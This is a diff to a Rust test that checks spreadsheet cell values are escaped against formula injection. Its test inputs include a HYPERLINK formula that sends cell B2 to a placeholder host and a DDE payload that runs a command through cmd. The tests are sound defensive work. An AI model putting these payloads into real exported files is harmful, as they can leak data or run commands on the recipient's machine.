@@ -61,7 +61,8 @@ mod tests {
     #[test]
     fn formulas_in_names_are_neutralised() {
         assert_eq!(cell("=HYPERLINK(\"https://x/?\"&B2,\"x\")"), "'=HYPERLINK(\"https://x/?\"&B2,\"x\")");
-        assert_eq!(cell("+1"), "'+1");
+        assert_eq!(cell("+cmd|' /C calc'!A0"), "'+cmd|' /C calc'!A0");
+        assert_eq!(cell("-1.5"), "-1.5", "numbers stay numeric");
         assert_eq!(cell("@SUM(A1)"), "'@SUM(A1)");
         assert_eq!(cell("Acme"), "Acme");
     }
